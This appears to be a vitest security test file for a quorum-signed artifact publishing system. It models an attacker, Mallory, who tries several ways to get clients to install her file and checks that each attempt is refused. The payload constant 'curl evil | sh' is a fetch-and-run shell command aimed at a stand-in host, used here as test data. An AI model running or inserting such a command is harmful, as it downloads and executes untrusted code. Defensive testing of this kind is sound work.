import { describe, expect } from 'vitest';
import { parseSigningEvent } from '../../src/git/names.ts';
import {
  cardKey,
  drafted,
  entryOf,
  expectUnharmed,
  files,
  listing,
  pushToMain,
  read,
  serve,
  signed,
  strangeKey,
  type Wire,
  words,
} from './attacker.ts';
import { attack, type Scene } from './scene.ts';

const EVIL = 'curl evil | sh\n';

/** The next version of `tools` with one artifact more, signed by what Mallory can get at. */
const withEvil = ({ world }: Scene): Wire['tools'] =>
  signed(
    drafted(read(world, 'tools'), ({ targets }) => {
      targets['tools/evil.sh'] = entryOf(EVIL);
    }),
    cardKey('bob'),
    strangeKey('carol'),
  );

/**
 * Mallory can push, to events and in the end to main as well, and may have one card of a quorum of two, and the online key. She
 * wants clients to install a file of hers. Clients count signatures of keys that a delegation names: whatever she pushes, a second
 * card is missing.
 */
describe('an artifact that no quorum signed', () => {
  attack('in an event: the automation lists it, and says that nobody has signed it', async scene => {
    const client = scene.client();
    scene.world.push({ 'targets/tools/evil.sh': EVIL });
    await scene.update();
    const page = await scene.page();
    expect([page.verdict, page.rules]).toEqual(['pending', ['role-quorum']]);
    expect(page.markdown).toContain('artifact `tools/evil.sh` is added: 15 bytes');
    const carol = await scene.sign('carol', undefined, () => false);
    expect(words(carol)).toContain('artifact "tools/evil.sh" is added: 15 bytes');
    expect([carol.signed, carol.refusal?.code]).toEqual([[], 'DECLINED']);
    expect((await scene.sign('bob')).signed).toEqual(['tools']);
    expect((await scene.page()).markdown).toContain('1 of 2 signatures; can sign: @&#8203;carol');

    const { online, published } = await scene.force();
    expect([online.done, online.rules]).toEqual([false, ['role-quorum']]);
    expect([published.done, published.rules]).toEqual([false, ['role-quorum', 'online']]);
    expect(await client.download('tools/evil.sh')).toBe('TARGET_UNKNOWN');
    await expectUnharmed(scene, client);
  });

  attack('pushed to main itself: nothing is signed on it, and nothing is published', async scene => {
    const client = scene.client();
    pushToMain(scene.world, { ...files({ tools: withEvil(scene) }), 'targets/tools/evil.sh': EVIL });
    expect(await scene.signOnline()).toMatchObject({ done: false, rules: ['role-quorum'] });
    expect(await scene.publish()).toMatchObject({ done: false, rules: ['role-quorum', 'online'] });
    scene.world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
    const page = await scene.page();
    expect([page.verdict, page.rules]).toEqual(['rejected', ['role-quorum', 'artifacts']]);
    expect(page.markdown).toContain('known-good itself: 1 of 2 signatures; can sign: @&#8203;carol');
    const carol = await scene.sign('carol', undefined, () => false);
    expect([carol.signed, carol.refusal?.code]).toEqual([[], 'UNTRUSTED']);
    expect(words(carol)).toContain('main: tools 1 of 2 signatures; can sign: @carol');
    await expectUnharmed(scene, client);
  });

  attack('pushed to main with a workflow, so that nothing can put main right: it can', async scene => {
    const client = scene.client();
    pushToMain(scene.world, {
      ...files({ tools: withEvil(scene) }),
      'targets/tools/evil.sh': EVIL,
      'targets/tools/.hidden': EVIL,
      '.github/workflows/evil.yml': 'on: push\n',
    });
    scene.world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
    const carol = await scene.sign('carol');
    expect([carol.signed, carol.refusal?.code]).toEqual([[], 'UNTRUSTED']);
    const repair = /have (sign\/\S+) looked at/.exec(words(carol))?.[1] ?? 'sign/none';
    const page = await scene.page(parseSigningEvent(repair));
    expect([page.verdict, page.rules, page.warned]).toEqual(['accepted', [], ['base']]);
    scene.world.merge(repair);
    expect([(await scene.signOnline()).done, (await scene.publish()).done]).toEqual([true, true]);
    await expectUnharmed(scene, client);
  });

  attack('as a file alone, in no metadata: nothing is signed on it', async scene => {
    const client = scene.client();
    pushToMain(scene.world, { 'targets/tools/evil.sh': EVIL });
    expect(await scene.signOnline()).toMatchObject({ done: false, rules: ['artifacts'] });
    expect(await scene.publish()).toMatchObject({ done: false, rules: ['artifacts'] });
    await expectUnharmed(scene, client);
  });

  attack('served with snapshot and timestamp by the stolen online key: clients refuse', async scene => {
    const client = scene.client();
    expect(await client.download('tools/greet.sh')).toBe('echo hello\n');
    await serve(
      scene,
      { tools: withEvil(scene), ...listing(scene.world, { tools: 2 }) },
      { 'tools/evil.sh': EVIL },
    );
    for (const somebody of [client, scene.client()]) {
      expect(await somebody.download('tools/evil.sh')).toBe('QUORUM');
    }
  });
});
